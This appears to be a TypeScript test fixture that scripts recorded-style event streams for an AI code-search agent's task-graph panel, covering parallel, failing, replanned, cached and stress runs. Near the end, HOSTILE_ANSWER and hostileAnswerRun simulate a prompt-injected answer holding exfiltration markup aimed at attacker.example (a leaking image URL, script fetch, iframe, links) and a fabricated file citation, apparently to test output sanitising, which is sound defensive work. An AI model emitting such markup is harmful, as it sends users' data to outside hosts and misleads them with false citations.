// Recorded-style event sequences for the task-graph panel: what the core emits for typical runs, on a fixed clock.
import type { CompilerEvent, TaskStatus } from '../../src/shared/runEvents';
import type { ErrorInfo } from '../../src/base/errors';
import type { FileLocation, ToolOrigin } from '../../src/shared/toolContract';
import type { JsonObject } from '../../src/shared/json';
import type { ModelPurpose } from '../../src/shared/modes';
import type { RunMode } from '../../src/shared/modes';

type Body = CompilerEvent extends infer E ? (E extends CompilerEvent ? Omit<E, 't'> : never) : never;

interface TaskSpec {
  id: number;
  tool: string;
  args: string;
  deps?: number[];
  round?: number;
  /** An external tool's source. */
  origin?: ToolOrigin;
}

/** Writes a run's events with explicit times and keeps the run's statistics the way the core does. */
export class RunScript {
  readonly events: CompilerEvent[] = [];
  private calls = 0;
  private readonly tasks = new Map<number, TaskSpec & { started?: number }>();
  private readonly llm: Array<Extract<CompilerEvent, { type: 'llm-end' }>> = [];
  private running = new Set<number>();
  private maxParallel = 0;
  private sequential = 0;
  private readonly counts = { total: 0, ok: 0, error: 0, skipped: 0, cancelled: 0, cached: 0 };
  private answer = '';

  constructor(
    readonly runId: string,
    question: string,
    options: { mode?: RunMode; model?: string } = {},
  ) {
    this.emit(0, { type: 'run-start', runId, question, mode: options.mode ?? 'compiler', model: options.model ?? 'openai:gpt-4o-mini', tools: ['search_text', 'read_file', 'list_files', 'find_symbol'] });
  }

  emit(t: number, body: Body): this {
    this.events.push({ ...body, t } as CompilerEvent);
    return this;
  }

  llmStart(t: number, purpose: ModelPurpose, round: number): number {
    const call = ++this.calls;
    this.emit(t, { type: 'llm-start', call, purpose, round });
    return call;
  }

  llmEnd(t: number, call: number, start: number, purpose: ModelPurpose, round: number, tokens: [number, number], firstTokenMs = 180): this {
    const end = { type: 'llm-end' as const, call, purpose, round, inputTokens: tokens[0], outputTokens: tokens[1], estimated: false, start, end: t, firstTokenMs, t };
    this.llm.push(end);
    this.events.push(end);
    return this;
  }

  plan(t: number, spec: TaskSpec, thought?: string): this {
    this.tasks.set(spec.id, { ...spec });
    return this.emit(t, {
      type: 'task-planned',
      id: spec.id,
      round: spec.round ?? 1,
      tool: spec.tool,
      args: spec.args,
      deps: spec.deps ?? [],
      ...(thought ? { thought } : {}),
      ...(spec.origin ? { origin: spec.origin } : {}),
    });
  }

  start(t: number, id: number, resolvedArgs: JsonObject): this {
    const task = this.tasks.get(id)!;
    task.started = t;
    return this.emit(t, { type: 'task-started', id, tool: task.tool, resolvedArgs, ...(task.origin ? { origin: task.origin } : {}) });
  }

  finish(t: number, id: number, status: TaskStatus, text: string, extra: { error?: ErrorInfo; locations?: FileLocation[]; cachedFrom?: number } = {}): this {
    const task = this.tasks.get(id)!;
    const ms = task.started !== undefined ? t - task.started : 0;
    this.counts.total++;
    this.counts[status]++;
    if (status !== 'cached') this.sequential += ms;
    return this.emit(t, { type: 'task-finished', id, round: task.round ?? 1, tool: task.tool, args: task.args, deps: task.deps ?? [], status, ms, text, ...extra });
  }

  say(t: number, text: string): this {
    this.answer += text;
    return this.emit(t, { type: 'answer-delta', text });
  }

  end(t: number, outcome: 'answered' | 'failed' | 'cancelled' = 'answered', error?: ErrorInfo): CompilerEvent[] {
    // Parallelism by the clock, not by the order the script wrote the events in.
    for (const e of this.sorted()) {
      if (e.type === 'task-started') this.running.add(e.id);
      if (e.type === 'task-finished') this.running.delete(e.id);
      this.maxParallel = Math.max(this.maxParallel, this.running.size);
    }
    this.emit(t, {
      type: 'run-end',
      outcome,
      ...(outcome === 'answered' ? { answer: this.answer } : {}),
      ...(error ? { error } : {}),
      llmCalls: this.llm.length,
      inputTokens: this.llm.reduce((n, c) => n + c.inputTokens, 0),
      outputTokens: this.llm.reduce((n, c) => n + c.outputTokens, 0),
      tokensEstimated: false,
      wallMs: t,
      rounds: Math.max(1, ...this.llm.map((c) => c.round)),
      tasks: { ...this.counts },
      sequentialToolMs: this.sequential,
      maxParallel: this.maxParallel,
      calls: this.llm.map(({ type: _type, t: _t, ...c }) => c),
    });
    return this.sorted();
  }

  /** The script writes each task's story in one go; the core emits in time order. The sort is stable. */
  sorted(): CompilerEvent[] {
    return [...this.events].sort((a, b) => a.t - b.t);
  }
}

const loc = (relPath: string, line: number, column?: number): FileLocation => ({ path: `/work/demo/${relPath}`, relPath, line, ...(column ? { column } : {}) });

/** Three searches in parallel, then one read that uses the first search's result. */
export function parallelRun(): CompilerEvent[] {
  const r = new RunScript('run-parallel', 'Where is the retry policy for HTTP requests configured, and what are its defaults?');
  const p = r.llmStart(2, 'planner', 1);
  r.emit(1, { type: 'plan-start', round: 1 });
  r.plan(420, { id: 1, tool: 'search_text', args: '"retryPolicy"' }, 'Find where the retry policy is defined.')
    .start(421, 1, { pattern: 'retryPolicy' })
    .plan(610, { id: 2, tool: 'search_text', args: '"maxRetries", glob="**/*.ts"' })
    .start(611, 2, { pattern: 'maxRetries', glob: '**/*.ts' })
    .plan(790, { id: 3, tool: 'find_symbol', args: '"HttpClient"' })
    .start(791, 3, { name: 'HttpClient' })
    .plan(1010, { id: 4, tool: 'read_file', args: '$1, start_line=1, end_line=80', deps: [1] });
  r.emit(1150, { type: 'plan-end', round: 1, tasks: 4 }).llmEnd(1150, p, 2, 'planner', 1, [1830, 212], 390);
  r.finish(980, 3, 'ok', 'src/net/httpClient.ts:12:14 class HttpClient', { locations: [loc('src/net/httpClient.ts', 12, 14)] })
    .finish(1290, 1, 'ok', 'src/net/retry.ts:8: export const retryPolicy = {\nsrc/net/httpClient.ts:40: this.retry = retryPolicy;', {
      locations: [loc('src/net/retry.ts', 8), loc('src/net/httpClient.ts', 40)],
    })
    .start(1291, 4, { path: 'src/net/retry.ts', start_line: 1, end_line: 80 })
    .finish(1520, 2, 'ok', 'src/net/retry.ts:9:   maxRetries: 3,', { locations: [loc('src/net/retry.ts', 9, 3)] })
    .finish(1740, 4, 'ok', '1 // Retry settings for all outgoing requests.\n2 import type { RetryPolicy } from "./types";\n…\n8 export const retryPolicy = {\n9   maxRetries: 3,\n10  backoffMs: 250,\n11  factor: 2,\n12 };', {
      locations: [loc('src/net/retry.ts', 1)],
    });
  r.emit(1745, { type: 'join-start', round: 1 });
  const j = r.llmStart(1746, 'joiner', 1);
  r.say(2210, 'The retry policy lives in `src/net/retry.ts` (`retryPolicy`, line 8). ').say(2400, 'Defaults: 3 retries, 250 ms backoff doubling each attempt; `HttpClient` applies it in its constructor.');
  r.llmEnd(2480, j, 1746, 'joiner', 1, [2950, 96], 420).emit(2480, { type: 'thought', round: 1, text: 'The read shows the defaults; enough to answer.' });
  return r.end(2490);
}

/** A workspace search beside three external calls: an extension's tool twice at once, and an MCP server's. */
export function externalRun(): CompilerEvent[] {
  const r = new RunScript('run-external', 'Which open issues mention the retry policy, and where is it defined?');
  const ext = { kind: 'extension', name: 'acme.tracker' } as const;
  const p = r.llmStart(2, 'planner', 1);
  r.emit(1, { type: 'plan-start', round: 1 });
  r.plan(300, { id: 1, tool: 'search_text', args: '"retryPolicy"' })
    .start(301, 1, { pattern: 'retryPolicy' })
    .plan(420, { id: 2, tool: 'acme_issues', args: 'query="retry", state="open"', origin: ext })
    .start(421, 2, { query: 'retry', state: 'open' })
    .plan(530, { id: 3, tool: 'acme_issues', args: 'query="backoff", state="open"', origin: ext })
    .start(531, 3, { query: 'backoff', state: 'open' })
    .plan(640, { id: 4, tool: 'mcp_docs_search', args: 'q="retry policy"', origin: { kind: 'mcp', name: 'docs' } })
    .start(641, 4, { q: 'retry policy' });
  r.emit(700, { type: 'plan-end', round: 1, tasks: 4 }).llmEnd(700, p, 2, 'planner', 1, [1900, 120], 300);
  r.finish(340, 1, 'ok', 'src/net/retry.ts:8: export const retryPolicy = {', { locations: [loc('src/net/retry.ts', 8)] })
    .finish(1422, 2, 'ok', '#412 Retries ignore the policy (open)')
    .finish(1530, 3, 'ok', '#418 Backoff doubles twice (open)')
    .finish(1900, 4, 'error', 'Error: mcp_docs_search failed: the server is unreachable', { error: { reason: 'tool-failed', message: 'mcp_docs_search failed: the server is unreachable' } });
  r.emit(1905, { type: 'join-start', round: 1 });
  const j = r.llmStart(1906, 'joiner', 1);
  r.say(2300, 'Issues #412 and #418 mention it; it is defined at src/net/retry.ts:8.');
  r.llmEnd(2350, j, 1906, 'joiner', 1, [2400, 40], 300);
  return r.end(2360);
}

/** A failing task whose dependents are skipped, and a repeated call answered from the cache. */
export function failureRun(): CompilerEvent[] {
  const r = new RunScript('run-failure', 'Which config keys does the deploy script read?');
  const p = r.llmStart(1, 'planner', 1);
  r.emit(0, { type: 'plan-start', round: 1 });
  r.plan(300, { id: 1, tool: 'list_files', args: '"scripts/**"' }).start(301, 1, { glob: 'scripts/**' });
  r.plan(480, { id: 2, tool: 'read_file', args: '"deploy/deploy.sh"' }).start(481, 2, { path: 'deploy/deploy.sh' });
  r.plan(650, { id: 3, tool: 'search_text', args: '"config\\.get" in $2', deps: [2] });
  r.plan(800, { id: 4, tool: 'read_file', args: '$3', deps: [3] });
  r.plan(950, { id: 5, tool: 'list_files', args: '"scripts/**"' }).finish(560, 2, 'error', 'Error: not found: deploy/deploy.sh', {
    error: { reason: 'not-found', message: 'deploy/deploy.sh does not exist in the workspace' },
  });
  r.finish(561, 3, 'skipped', 'Error: skipped because task 2 (read_file) failed: deploy/deploy.sh does not exist in the workspace', {
    error: { reason: 'dependency-failed', message: 'skipped because task 2 (read_file) failed: deploy/deploy.sh does not exist in the workspace' },
  });
  r.finish(801, 4, 'skipped', 'Error: skipped because task 2 (read_file) failed', { error: { reason: 'dependency-failed', message: 'skipped because task 2 (read_file) failed: deploy/deploy.sh does not exist in the workspace' } });
  r.finish(870, 1, 'ok', 'scripts/deploy.ts\nscripts/build.ts', { locations: [loc('scripts/deploy.ts', 1), loc('scripts/build.ts', 1)] });
  r.finish(951, 5, 'cached', 'scripts/deploy.ts\nscripts/build.ts', { cachedFrom: 1, locations: [loc('scripts/deploy.ts', 1)] });
  r.emit(1000, { type: 'plan-end', round: 1, tasks: 5 }).llmEnd(1000, p, 1, 'planner', 1, [1700, 160], 280);
  r.emit(1002, { type: 'join-start', round: 1 });
  const j = r.llmStart(1003, 'joiner', 1);
  r.say(1500, 'There is no `deploy/deploy.sh`; the deploy script is `scripts/deploy.ts`, which I could not read in this run.');
  r.llmEnd(1560, j, 1003, 'joiner', 1, [2100, 60]);
  return r.end(1570);
}

/** The joiner asks for a second plan; round 2 continues the numbering. */
export function replanRun(): CompilerEvent[] {
  const r = new RunScript('run-replan', 'How does the cache invalidate entries when the schema changes?');
  r.emit(0, { type: 'plan-start', round: 1 });
  const p1 = r.llmStart(1, 'planner', 1);
  r.plan(350, { id: 1, tool: 'search_text', args: '"invalidate"' }).start(351, 1, { pattern: 'invalidate' });
  r.plan(520, { id: 2, tool: 'search_text', args: '"schemaVersion"' }).start(521, 2, { pattern: 'schemaVersion' });
  r.emit(700, { type: 'plan-end', round: 1, tasks: 2 }).llmEnd(700, p1, 1, 'planner', 1, [1600, 90]);
  r.finish(780, 2, 'ok', 'src/cache/store.ts:22: const schemaVersion = 4;', { locations: [loc('src/cache/store.ts', 22)] });
  r.finish(900, 1, 'ok', 'src/cache/store.ts:88: invalidate(key) {', { locations: [loc('src/cache/store.ts', 88)] });
  r.emit(901, { type: 'join-start', round: 1 });
  const j1 = r.llmStart(902, 'joiner', 1);
  r.llmEnd(1300, j1, 902, 'joiner', 1, [2200, 70]);
  r.emit(1300, { type: 'thought', round: 1, text: 'Both hits are in store.ts, but the code that compares versions is not shown yet.' });
  r.emit(1301, { type: 'replan', round: 1, reason: 'need the code that compares schemaVersion on load' });
  r.emit(1302, { type: 'plan-start', round: 2 });
  const p2 = r.llmStart(1303, 'planner', 2);
  r.plan(1600, { id: 3, tool: 'read_file', args: '"src/cache/store.ts", start_line=15, end_line=60', round: 2 }).start(1601, 3, { path: 'src/cache/store.ts', start_line: 15, end_line: 60 });
  r.plan(1750, { id: 4, tool: 'find_symbol', args: '"migrate"', round: 2 }).start(1751, 4, { name: 'migrate' });
  r.plan(1900, { id: 5, tool: 'read_file', args: '$4', deps: [4], round: 2 });
  r.emit(2000, { type: 'plan-end', round: 2, tasks: 3 }).llmEnd(2000, p2, 1303, 'planner', 2, [2600, 120]);
  r.finish(1820, 3, 'ok', '15 export class Store {\n…\n31   if (meta.schemaVersion !== schemaVersion) this.clear();', { locations: [loc('src/cache/store.ts', 31)] });
  r.finish(1990, 4, 'ok', 'src/cache/migrate.ts:5:17 function migrate', { locations: [loc('src/cache/migrate.ts', 5, 17)] });
  r.start(1991, 5, { path: 'src/cache/migrate.ts' }).finish(2150, 5, 'ok', '1 export function migrate(…) {…}', { locations: [loc('src/cache/migrate.ts', 1)] });
  r.emit(2151, { type: 'join-start', round: 2 });
  const j2 = r.llmStart(2152, 'joiner', 2);
  r.say(2500, 'On load, `Store` compares the stored `schemaVersion` with the current one (4) and clears everything when they differ (store.ts:31); `migrate` is only used for the export format.');
  r.llmEnd(2600, j2, 2152, 'joiner', 2, [3100, 88]);
  return r.end(2610);
}

/** A run in the middle of things: the planner still streaming, tasks running, one waiting. */
export function liveRun(): CompilerEvent[] {
  const r = new RunScript('run-live', 'List every place that writes to the audit log.');
  r.emit(0, { type: 'plan-start', round: 1 });
  r.llmStart(1, 'planner', 1);
  r.plan(300, { id: 1, tool: 'search_text', args: '"auditLog.write"' }).start(301, 1, { pattern: 'auditLog.write' });
  r.plan(420, { id: 2, tool: 'find_symbol', args: '"AuditLog"' }).start(421, 2, { name: 'AuditLog' });
  r.plan(560, { id: 3, tool: 'search_text', args: '"audit(" in $2', deps: [2] });
  r.finish(640, 2, 'ok', 'src/audit/auditLog.ts:3:14 class AuditLog', { locations: [loc('src/audit/auditLog.ts', 3, 14)] }).start(641, 3, { pattern: 'audit(' });
  r.plan(700, { id: 4, tool: 'read_file', args: '$1', deps: [1] });
  return r.sorted();
}

/**
 * A big plan run with the core's concurrency bound of 8. `groups`: fan-outs of four tasks (a search, two lookups
 * using it, a read using both), as a planner writes them; `random`: a layered random DAG, the layout's worst case.
 */
export function stressRun(n = 200, shape: 'groups' | 'random' = 'groups', concurrency = 8): CompilerEvent[] {
  const r = new RunScript(`run-stress-${shape}`, `Audit all ${n} handlers for missing input validation.`);
  let seed = 7;
  const rand = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
  const tools = ['search_text', 'read_file', 'find_symbol', 'list_files'];
  const deps = new Map<number, number[]>();
  for (let id = 1; id <= n; id++) {
    if (shape === 'groups') {
      const base = id - ((id - 1) % 4);
      const k = (id - 1) % 4;
      deps.set(id, k === 0 ? [] : k === 3 ? [base + 1, base + 2] : [base]);
    } else {
      const earlier = [...deps.keys()].filter((i) => i > id - 60);
      const pick = () => earlier[Math.floor(rand() * earlier.length)];
      deps.set(id, id <= 40 || !earlier.length ? [] : [...new Set([pick(), ...(rand() < 0.3 ? [pick()] : [])])].sort((a, b) => a - b));
    }
  }
  r.emit(0, { type: 'plan-start', round: 1 });
  const p = r.llmStart(1, 'planner', 1);
  const plannedAt = (id: number) => 100 + id * 20;
  const duration = new Map([...deps.keys()].map((id) => [id, 40 + Math.floor(rand() * 400)]));
  const fails = new Set([...deps.keys()].filter(() => rand() < 0.04));
  for (const [id, ds] of deps) {
    const tool = tools[id % tools.length];
    r.plan(plannedAt(id), { id, tool, args: ds.length ? `$${ds.join(', $')}, query="handler ${id}"` : `"handler${id}"`, deps: ds });
  }
  // A small discrete-event schedule: a task starts once planned, its deps are done, and a slot is free.
  const done = new Map<number, { at: number; ok: boolean }>();
  const running = new Map<number, number>();
  let now = 0;
  while (done.size < n) {
    for (const [id, end] of [...running].filter(([, end]) => end <= now).sort((a, b) => a[1] - b[1])) {
      running.delete(id);
      const ok = !fails.has(id);
      done.set(id, { at: end, ok });
      const tool = tools[id % tools.length];
      r.finish(end, id, ok ? 'ok' : 'error', ok ? `src/handlers/h${id}.ts:1: export function handler${id}` : 'Error: timed out', ok ? { locations: [loc(`src/handlers/h${id}.ts`, 1)] } : { error: { reason: 'timeout', message: `${tool} did not finish within 30000 ms` } });
    }
    for (let id = 1; id <= n; id++) {
      if (plannedAt(id) > now || done.has(id) || running.has(id)) continue;
      const ds = deps.get(id)!;
      const failed = ds.find((d) => done.get(d)?.ok === false);
      if (failed !== undefined) {
        done.set(id, { at: now, ok: false });
        r.finish(now, id, 'skipped', `Error: skipped because task ${failed} failed`, { error: { reason: 'dependency-failed', message: `skipped because task ${failed} failed` } });
        continue;
      }
      if (running.size >= concurrency || !ds.every((d) => done.get(d)?.ok)) continue;
      running.set(id, now + duration.get(id)!);
      r.start(now, id, { query: `handler ${id}` });
    }
    now += 5;
  }
  const planned = plannedAt(n) + 10;
  r.emit(planned, { type: 'plan-end', round: 1, tasks: n }).llmEnd(planned, p, 1, 'planner', 1, [4200, 5200], 350);
  const last = Math.max(planned, ...[...done.values()].map((d) => d.at));
  r.emit(last + 1, { type: 'join-start', round: 1 });
  const j = r.llmStart(last + 2, 'joiner', 1);
  const failedCount = [...done.values()].filter((d) => !d.ok).length;
  r.say(last + 700, `${n - failedCount} handlers checked; ${failedCount} could not be checked.`);
  r.llmEnd(last + 900, j, last + 2, 'joiner', 1, [11800, 140]);
  return r.end(last + 910);
}

/** A ReAct run: one model call per step, one tool call after each. */
/** Function calling: two calls in the first model turn, one in the second, the answer in the third. */
export function functionCallingRun(): CompilerEvent[] {
  const r = new RunScript('run-fc', 'What does the build script do before bundling?', { mode: 'function-calling' });
  let call = r.llmStart(1, 'function-calling', 1);
  r.llmEnd(500, call, 1, 'function-calling', 1, [1200, 40], 0);
  r.plan(501, { id: 1, tool: 'list_files', args: 'glob="scripts/**"' }).plan(501, { id: 2, tool: 'search_text', args: 'query="prebundle"' });
  r.start(502, 1, { glob: 'scripts/**' }).start(502, 2, { query: 'prebundle' });
  r.finish(610, 1, 'ok', 'scripts/build.ts').finish(700, 2, 'ok', 'scripts/build.ts:12');
  call = r.llmStart(701, 'function-calling', 2);
  r.llmEnd(1100, call, 701, 'function-calling', 2, [1500, 30], 0);
  r.plan(1101, { id: 3, tool: 'read_file', args: 'path="scripts/build.ts"', round: 2 }).start(1102, 3, { path: 'scripts/build.ts' });
  r.finish(1190, 3, 'ok', 'file text');
  call = r.llmStart(1191, 'function-calling', 3);
  r.say(1500, 'It cleans dist/, then bundles (scripts/build.ts:12).');
  r.llmEnd(1700, call, 1191, 'function-calling', 3, [1900, 50], 300);
  return r.end(1710);
}

export function reactRun(): CompilerEvent[] {
  const r = new RunScript('run-react', 'What does the build script do before bundling?', { mode: 'react' });
  let t = 0;
  const steps: Array<[string, string, number]> = [
    ['list_files', '"scripts/**"', 120],
    ['read_file', '"scripts/build.ts"', 90],
    ['search_text', '"prebundle"', 210],
  ];
  steps.forEach(([tool, args, ms], i) => {
    const id = i + 1;
    const call = r.llmStart(t + 1, 'react', id);
    t += 600;
    r.llmEnd(t, call, t - 599, 'react', id, [900 + i * 400, 60], 300);
    r.plan(t + 1, { id, tool, args }).start(t + 2, id, { query: args }).finish(t + 2 + ms, id, 'ok', `${tool} result ${id}`);
    t += ms + 5;
  });
  const call = r.llmStart(t + 1, 'react', 4);
  r.say(t + 700, 'It cleans dist/, then generates the icon set, then bundles.');
  r.llmEnd(t + 700, call, t + 1, 'react', 4, [2400, 40], 280);
  return r.end(t + 710);
}

/**
 * A file told the joiner to leak: its answer holds a remote image, HTML that loads or runs something, an outside
 * link, citations of files the run read and one of a file it never saw. Streamed in pieces that cut constructs apart.
 */
export const HOSTILE_ANSWER = [
  'The policy is in `src/net/retry.ts:8`, its defaults at src/net/retry.ts:9-11.\n',
  '![x](https://attacker.example/leak?d=secret)\n',
  '<img src="https://attacker.example/x">\n',
  '[click](https://attacker.example)\n',
  '<script>fetch("https://attacker.example/s")</script>\n',
  '<iframe src="https://attacker.example/f"></iframe>\n',
  '<a href="https://attacker.example/a">docs</a> and https://attacker.example/bare\n',
  'Compare lib/other.ts:3, which no task read.',
].join('');

export function hostileAnswerRun(): CompilerEvent[] {
  const r = new RunScript('run-hostile', 'What are the retry defaults?');
  const p = r.llmStart(1, 'planner', 1);
  r.emit(1, { type: 'plan-start', round: 1 });
  r.plan(200, { id: 1, tool: 'read_file', args: '"src/net/retry.ts"' }).start(201, 1, { path: 'src/net/retry.ts' });
  r.plan(220, { id: 2, tool: 'search_text', args: '"maxRetries"' }).start(221, 2, { pattern: 'maxRetries' });
  r.emit(300, { type: 'plan-end', round: 1, tasks: 2 }).llmEnd(300, p, 1, 'planner', 1, [900, 40], 120);
  r.finish(400, 1, 'ok', '8 export const retryPolicy = {\n9   maxRetries: 3,', { locations: [loc('src/net/retry.ts', 1)] });
  r.finish(420, 2, 'ok', 'src/net/retry.ts:9:   maxRetries: 3,', { locations: [loc('src/net/retry.ts', 9, 3)] });
  r.emit(430, { type: 'join-start', round: 1 });
  const j = r.llmStart(431, 'joiner', 1);
  // Deltas cut inside the image, the tag and the citation.
  const cuts = [0, 60, 75, 130, 160, 250, HOSTILE_ANSWER.length - 20, HOSTILE_ANSWER.length];
  for (let i = 0; i + 1 < cuts.length; i++) r.say(500 + i * 10, HOSTILE_ANSWER.slice(cuts[i], cuts[i + 1]));
  r.llmEnd(600, j, 431, 'joiner', 1, [1200, 80], 90);
  return r.end(610);
}

/** A repeated question whose every task reuses an earlier result: it plans, finishes `cached` and answers at once. */
export function cachedRun(runId: string): CompilerEvent[] {
  const r = new RunScript(runId, 'Which config keys does the deploy script read?');
  const p = r.llmStart(1, 'planner', 1);
  r.emit(0, { type: 'plan-start', round: 1 });
  r.plan(200, { id: 1, tool: 'list_files', args: '"scripts/**"' }).start(201, 1, { glob: 'scripts/**' });
  r.plan(260, { id: 2, tool: 'read_file', args: '"scripts/deploy.ts"' }).start(261, 2, { path: 'scripts/deploy.ts' });
  r.finish(202, 1, 'cached', 'scripts/deploy.ts\nscripts/build.ts', { locations: [loc('scripts/deploy.ts', 1), loc('scripts/build.ts', 1)] });
  r.finish(262, 2, 'cached', 'const region = config.get("region");', { locations: [loc('scripts/deploy.ts', 1)] });
  r.emit(300, { type: 'plan-end', round: 1, tasks: 2 }).llmEnd(300, p, 1, 'planner', 1, [1700, 60], 180);
  r.emit(301, { type: 'join-start', round: 1 });
  const j = r.llmStart(302, 'joiner', 1);
  r.say(600, 'It reads `region` (scripts/deploy.ts:1).');
  r.llmEnd(620, j, 302, 'joiner', 1, [1900, 20]);
  return r.end(630);
}
